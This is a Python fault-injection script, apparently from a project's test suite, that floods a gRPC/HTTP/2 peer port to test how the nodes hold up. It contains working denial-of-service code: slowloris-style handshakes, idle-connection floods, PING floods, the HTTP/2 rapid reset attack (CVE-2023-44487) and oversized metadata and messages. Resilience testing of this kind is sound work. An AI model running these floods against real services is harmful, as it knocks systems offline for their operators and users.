"""What a hostile neighbour does to a peer port, by hand: ``python -m tests.faults.hostile KIND ADDRESS ROOT CERT``.

A process of its own, so that it takes no time from whoever measures. It goes on until its standard input ends, and prints at the end how
often it did it. Whoever floods inside HTTP/2 holds the certificate of an active peer: nobody else gets so far.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

SLOW_CONNECTIONS, SILENT_CONNECTIONS = 64, 200
RECONNECT_S = 0.2
"""Each new connection of a flood costs both ends a handshake: what is tried here is what comes after it."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_STREAM, _END_HEADERS = 1, 4
PATH = "/connector_psi.rpc.v1.MatchingService/GetManifest"


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Return an HTTP/2 frame (RFC 9113 section 4.1)."""
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + body


def _string(text: str) -> bytes:
    raw = text.encode()
    size = len(raw)
    if size < 127:
        return bytes([size]) + raw
    out, size = bytearray([127]), size - 127
    while size >= 128:
        out.append(size % 128 + 128)
        size //= 128
    return bytes([*out, size]) + raw


def headers(*more: tuple[str, str]) -> bytes:
    """Return the header block of a call: literals without indexing (RFC 7541 section 6.2.2), so that no state is needed."""
    fields = [
        (":method", "POST"), (":scheme", "https"), (":path", PATH), (":authority", "node"), ("te", "trailers"),
        ("content-type", "application/grpc"), ("grpc-timeout", "5S"), *more,
    ]  # fmt: skip
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in fields)


class Attack:
    """One attack on one address."""

    def __init__(self, address: str, root: Path, cert: Path) -> None:
        host, _, port = address.rpartition(":")
        self._where = (host, int(port))
        self._context = ssl.create_default_context(cafile=str(root))
        self._context.check_hostname = False
        self._context.set_alpn_protocols(["h2"])
        self._context.load_cert_chain(str(cert), str(cert.with_suffix(".key")))
        self.over = threading.Event()
        self.done = 0
        self.connections = 0

    def slow_handshakes(self) -> None:
        """Connections that send a byte of their greeting a second, and begin anew when they are closed."""
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
        held: dict[int, tuple[socket.socket, int]] = {}
        while not self.over.wait(1.0):
            for slot in range(SLOW_CONNECTIONS):
                made, sent = held.get(slot) or (self._dial(), 0)
                try:
                    made.sendall(hello[sent : sent + 1])
                    held[slot] = (made, sent + 1)
                    self.done += 1
                except OSError:
                    made.close()
                    held.pop(slot, None)
        for made, _ in held.values():
            made.close()

    def silence(self) -> None:
        """Many connections that say nothing, and begin anew when they are closed."""
        held: list[socket.socket] = []
        while not self.over.wait(0.5):
            gone, _, _ = select.select(held, [], [], 0)
            for made in gone:
                made.close()
                held.remove(made)
            while len(held) < SILENT_CONNECTIONS:
                held.append(self._dial())
                self.done += 1
        for made in held:
            made.close()

    def pings(self) -> None:
        """PING frames as fast as they are taken."""
        self._flood(lambda _: frame(_PING, 0, 0, b"12345678") * 64, 64)

    def resets(self) -> None:
        """Calls that are reset as soon as they are begun (rapid reset, CVE-2023-44487)."""
        block = headers()

        def burst(turn: int) -> bytes:
            streams = range(turn * 64 + 1, turn * 64 + 65, 2)
            return b"".join(
                frame(_HEADERS, _END_HEADERS, n, block) + frame(_RST_STREAM, 0, n, struct.pack(">I", 8))
                for n in streams
            )

        self._flood(burst, 32)

    def oversized_metadata(self) -> None:
        """Calls whose metadata is larger than what a node takes."""
        block = headers(("x-much", "v" * 12_000))

        def call(turn: int) -> bytes:
            return frame(_HEADERS, _END_HEADERS | _END_STREAM, turn * 2 + 1, block)

        self._flood(call, 1, pause_s=0.005)

    def oversized_messages(self) -> None:
        """Calls whose message says that it is larger than what a node takes, and begins."""
        block, head = headers(), b"\0" + struct.pack(">I", 64 << 20)

        def call(turn: int) -> bytes:
            stream = turn * 2 + 1
            return frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, head + bytes(8_000))

        self._flood(call, 1, pause_s=0.005)

    def _dial(self) -> socket.socket:
        self.connections += 1
        return socket.create_connection(self._where, timeout=5)

    def _flood(self, burst: Callable[[int], bytes], count: int, *, pause_s: float = 0.001) -> None:
        while not self.over.wait(RECONNECT_S):
            with contextlib.suppress(OSError), self._context.wrap_socket(self._dial()) as made:
                made.sendall(PREFACE + frame(_SETTINGS, 0, 0, b""))
                made.settimeout(0)
                for turn in range(1 << 24):
                    self._push(made, burst(turn))
                    self.done += count
                    if self.over.wait(pause_s):
                        return

    def _push(self, made: ssl.SSLSocket, data: bytes) -> None:
        """Send, and take what comes meanwhile, so that the other end is never kept waiting by this one."""
        view = memoryview(data)
        while view and not self.over.is_set():
            try:
                view = view[made.send(view) :]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([made], [made], [], 0.1)
            with contextlib.suppress(ssl.SSLWantReadError):
                while piece := made.recv(65_536):
                    del piece


KINDS = tuple(name for name in vars(Attack) if not name.startswith("_"))


def main() -> None:
    """Attack until told to stop."""
    kind, address, root, cert = sys.argv[1:]
    attack = Attack(address, Path(root), Path(cert))
    worker = threading.Thread(target=getattr(attack, kind))
    worker.start()
    # Ends with its parent too.
    while os.read(0, 1):
        time.sleep(0)
    attack.over.set()
    worker.join()
    print(json.dumps({"kind": kind, "done": attack.done, "connections": attack.connections}))


if __name__ == "__main__":
    main()
